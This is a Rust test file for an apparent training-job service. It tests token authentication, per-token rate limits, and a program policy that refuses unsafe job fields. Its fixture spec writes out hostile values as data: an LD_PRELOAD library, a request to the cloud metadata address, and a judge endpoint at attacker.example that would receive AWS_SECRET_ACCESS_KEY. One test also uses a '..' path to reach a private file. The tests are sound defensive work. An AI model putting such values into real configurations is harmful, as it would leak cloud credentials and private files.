use super::*;

fn cfg(tokens: &[(&str, Role, &str)]) -> AccessConfig {
    AccessConfig {
        tokens: tokens
            .iter()
            .map(|(name, role, token)| TokenEntry {
                name: (*name).into(),
                role: *role,
                sha256: hash_token(token),
            })
            .collect(),
        ..AccessConfig::default()
    }
}

fn spec(toml: &str) -> JobSpec {
    job::spec::parse(toml, job::spec::Format::Toml).expect("valid spec")
}

const EXTERNAL: &str = r#"
[[tasks]]
domain = "ext"
env = { kind = "external", command = ["python3", "env.py"], sandbox = "none", readable_paths = ["/tmp"] }
[[pools]]
name = "p"
device = "H800"
count = 1
backend = { kind = "sim", model = "qwen3-8b" }
[reward.functions.c]
kind = "command"
command = "/bin/true"
env = { LD_PRELOAD = "/tmp/x.so", MODE = "fast" }
[reward.functions.h]
kind = "http"
url = "http://169.254.169.254/latest"
[reward.functions.j]
kind = "builtin"
function = "judge"
config = { endpoint = "http://attacker.example", model = "m", rubric = "r", api_key_env = "AWS_SECRET_ACCESS_KEY" }
[reward.functions.k]
kind = "builtin"
function = "code"
config = { sandbox = "none", python = "python3" }
"#;

#[test]
fn tokens_authenticate_by_digest_only() {
    let a = Access::new(
        &cfg(&[
            ("alice", Role::Submit, "t-alice"),
            ("root", Role::Admin, "t-root"),
        ]),
        ProgramPolicy::default(),
    )
    .unwrap();
    assert!(a.enabled());
    let p = a.authenticate(Some("Bearer t-alice")).unwrap();
    assert_eq!(a.authenticate(Some("bearer t-alice")).unwrap(), p);
    assert_eq!((p.name.as_str(), p.role), ("alice", Role::Submit));
    assert_eq!(p.owner(), Some("alice"));
    assert!(p.owns(Some("alice")) && !p.owns(Some("bob")) && !p.owns(None));
    let root = a.authenticate(Some("Bearer t-root")).unwrap();
    assert!(root.owns(Some("bob")) && root.owns(None));
    for bad in [
        None,
        Some("t-alice"),
        Some("Bearer "),
        Some("Bearer t-mallory"),
        Some("Basic x"),
    ] {
        assert!(
            matches!(a.authenticate(bad), Err(Denied::Unauthenticated(_))),
            "{bad:?} was accepted"
        );
    }
}

#[test]
fn open_mode_makes_everyone_the_local_admin() {
    let a = Access::open();
    assert!(!a.enabled() && a.metrics_open());
    let p = a.authenticate(None).unwrap();
    assert_eq!(p.role, Role::Admin);
    assert_eq!(p.owner(), None);
}

#[test]
fn bad_configs_name_the_token() {
    let mut c = cfg(&[("alice", Role::Read, "x")]);
    c.tokens[0].sha256 = "abc".into();
    assert!(matches!(
        Access::new(&c, ProgramPolicy::default()),
        Err(AccessConfigError::BadDigest { index: 0 })
    ));
    let c = cfg(&[("a", Role::Read, "x"), ("b c", Role::Read, "y")]);
    assert!(matches!(
        Access::new(&c, ProgramPolicy::default()),
        Err(AccessConfigError::BadName { index: 1 })
    ));
    let c = cfg(&[("a", Role::Read, "x"), ("b", Role::Admin, "x")]);
    assert!(matches!(
        Access::new(&c, ProgramPolicy::default()),
        Err(AccessConfigError::Duplicate { index: 1 })
    ));
    let mut c = cfg(&[("a", Role::Read, "x")]);
    c.rate_limit = Some(RateLimit {
        per_second: f64::NAN,
        burst: 1,
    });
    assert!(matches!(
        Access::new(&c, ProgramPolicy::default()),
        Err(AccessConfigError::BadRateLimit)
    ));
}

#[tokio::test(start_paused = true)]
async fn the_rate_limit_is_per_token_and_refills() {
    let mut c = cfg(&[("a", Role::Read, "ta"), ("b", Role::Read, "tb")]);
    c.rate_limit = Some(RateLimit {
        per_second: 2.0,
        burst: 3,
    });
    let a = Access::new(&c, ProgramPolicy::default()).unwrap();
    for _ in 0..3 {
        a.authenticate(Some("Bearer ta")).unwrap();
    }
    assert_eq!(
        a.authenticate(Some("Bearer ta")),
        Err(Denied::RateLimited { retry_after_s: 1 })
    );
    // Another token has its own bucket.
    a.authenticate(Some("Bearer tb")).unwrap();
    tokio::time::advance(std::time::Duration::from_millis(500)).await;
    a.authenticate(Some("Bearer ta")).unwrap();
    assert!(a.authenticate(Some("Bearer ta")).is_err());
}

#[test]
fn programs_need_the_policy_when_tokens_are_configured() {
    let s = spec(EXTERNAL);
    // Open mode: anything goes.
    assert!(Access::open().check_programs(&s).is_empty());
    // Tokens and no policy: nothing may run, each field named.
    let strict = Access::new(&cfg(&[("a", Role::Submit, "t")]), ProgramPolicy::default()).unwrap();
    let fields: Vec<_> = strict
        .check_programs(&s)
        .into_iter()
        .map(|f| f.field)
        .collect();
    assert_eq!(
        fields,
        [
            "tasks[0].env.readable_paths[0]",
            "tasks[0].env.command",
            "tasks[0].env.sandbox",
            "reward.functions.c.command",
            "reward.functions.c.kind",
            "reward.functions.c.env.LD_PRELOAD",
            "reward.functions.h.url",
            "reward.functions.j.config.endpoint",
            "reward.functions.j.config.api_key_env",
            "reward.functions.k.config.python",
            "reward.functions.k.config.sandbox",
        ]
    );
    // An allowlist: python3 by name matches; /bin/true matches through its resolved file.
    let policy = ProgramPolicy {
        executables: Some(vec!["python3".into(), "true".into()]),
        allow_unsandboxed: Some(true),
        readable_paths: Some(vec!["/tmp".into()]),
        allow_network_functions: Some(true),
    };
    let allowed = Access::new(&cfg(&[("a", Role::Submit, "t")]), policy).unwrap();
    // Only the loader variable stays refused: it would change what a listed program runs.
    let fields: Vec<_> = allowed
        .check_programs(&s)
        .into_iter()
        .map(|f| f.field)
        .collect();
    assert_eq!(fields, ["reward.functions.c.env.LD_PRELOAD"]);
    // Sandbox opt-outs stay denied when only executables are listed.
    let policy = ProgramPolicy {
        executables: Some(vec!["python3".into(), "/bin/true".into()]),
        allow_unsandboxed: None,
        readable_paths: Some(vec!["/usr".into()]),
        allow_network_functions: None,
    };
    let partial = Access::new(&cfg(&[("a", Role::Submit, "t")]), policy).unwrap();
    let fields: Vec<_> = partial
        .check_programs(&s)
        .into_iter()
        .map(|f| f.field)
        .collect();
    assert_eq!(
        fields,
        [
            "tasks[0].env.readable_paths[0]",
            "tasks[0].env.sandbox",
            "reward.functions.c.kind",
            "reward.functions.c.env.LD_PRELOAD",
            "reward.functions.h.url",
            "reward.functions.j.config.endpoint",
            "reward.functions.j.config.api_key_env",
            "reward.functions.k.config.sandbox",
        ]
    );
}

#[test]
fn bridged_environments_and_datasets_obey_the_program_policy() {
    let dir = tempfile::tempdir().unwrap();
    let rows = dir.path().join("rows.jsonl");
    std::fs::write(&rows, "{\"prompt\": \"1+1?\", \"answer\": \"2\"}\n").unwrap();
    let s = spec(&format!(
        r#"
[[tasks]]
domain = "rg"
env = {{ kind = "reasoning_gym", dataset = "chain_sum", python = "/opt/py/bin/python3" }}
[[tasks]]
domain = "gym"
env = {{ kind = "gymnasium", id = "m:Env", python_path = ["/home/u/envs"], sandbox = "none" }}
[[tasks]]
domain = "rows"
env = {{ kind = "prompt" }}
dataset = {{ path = "{}" }}
[[pools]]
name = "p"
device = "H800"
backend = {{ kind = "sim" }}
"#,
        rows.display()
    ));
    assert!(Access::open().check_programs(&s).is_empty());
    let strict = Access::new(&cfg(&[("a", Role::Submit, "t")]), ProgramPolicy::default()).unwrap();
    let fields: Vec<_> = strict
        .check_programs(&s)
        .into_iter()
        .map(|f| f.field)
        .collect();
    assert_eq!(
        fields,
        [
            "tasks[0].env.python",
            "tasks[1].env.python_path[0]",
            "tasks[1].env.python",
            "tasks[1].env.sandbox",
            "tasks[2].dataset.path",
        ]
    );
    // The interpreter listed, the dataset's directory readable: only the opt-out and the
    // unlisted module directory stay refused.
    let policy = ProgramPolicy {
        executables: Some(vec!["/opt/py/bin/python3".into(), "python3".into()]),
        allow_unsandboxed: None,
        readable_paths: Some(vec![dir.path().display().to_string()]),
        allow_network_functions: None,
    };
    let a = Access::new(&cfg(&[("a", Role::Submit, "t")]), policy).unwrap();
    let fields: Vec<_> = a.check_programs(&s).into_iter().map(|f| f.field).collect();
    assert_eq!(
        fields,
        ["tasks[1].env.python_path[0]", "tasks[1].env.sandbox"]
    );
}

/// Hardening round 2 (#35): an argument that names a host path makes its directory
/// readable in the sandbox, so the policy checks it as it checks `readable_paths`:
/// `python3 allowed/script.py /private/notes.txt` used to read the private file.
#[test]
fn command_line_paths_obey_the_readable_paths_policy() {
    let allowed = tempfile::tempdir().unwrap();
    let private = tempfile::tempdir().unwrap();
    let script = allowed.path().join("env.py");
    let notes = private.path().join("notes.txt");
    std::fs::write(&script, "").unwrap();
    std::fs::write(&notes, "secret").unwrap();
    let task = |args: &str, kind: &str| {
        spec(&format!(
            r#"
[[tasks]]
domain = "d"
env = {{ kind = "{kind}", command = ["python3", {args}] }}
[[pools]]
name = "p"
device = "H800"
backend = {{ kind = "sim" }}
"#
        ))
    };
    let policy = ProgramPolicy {
        executables: Some(vec!["python3".into()]),
        allow_unsandboxed: None,
        readable_paths: Some(vec![allowed.path().display().to_string()]),
        allow_network_functions: None,
    };
    let a = Access::new(&cfg(&[("a", Role::Submit, "t")]), policy).unwrap();
    let fields =
        |s: &JobSpec| -> Vec<String> { a.check_programs(s).into_iter().map(|f| f.field).collect() };
    let ok = format!("{:?}", script.display().to_string());
    let bad = format!("{ok}, {:?}", notes.display().to_string());
    for kind in ["external", "agent"] {
        assert!(fields(&task(&ok, kind)).is_empty(), "{kind}");
        assert_eq!(
            fields(&task(&bad, kind)),
            ["tasks[0].env.command[2]"],
            "{kind}"
        );
        // The directory itself, and a path through `..`, are the same directory.
        let dir = format!("{ok}, {:?}", private.path().display().to_string());
        assert_eq!(fields(&task(&dir, kind)), ["tasks[0].env.command[2]"]);
        let dotted = format!(
            "{ok}, {:?}",
            allowed
                .path()
                .join("..")
                .join(private.path().file_name().unwrap())
                .join("notes.txt")
                .display()
                .to_string()
        );
        assert_eq!(fields(&task(&dotted, kind)), ["tasks[0].env.command[2]"]);
    }
    // System directories are readable in every sandbox anyway.
    assert!(fields(&task(&format!("{ok}, \"/usr/share\""), "external")).is_empty());
}
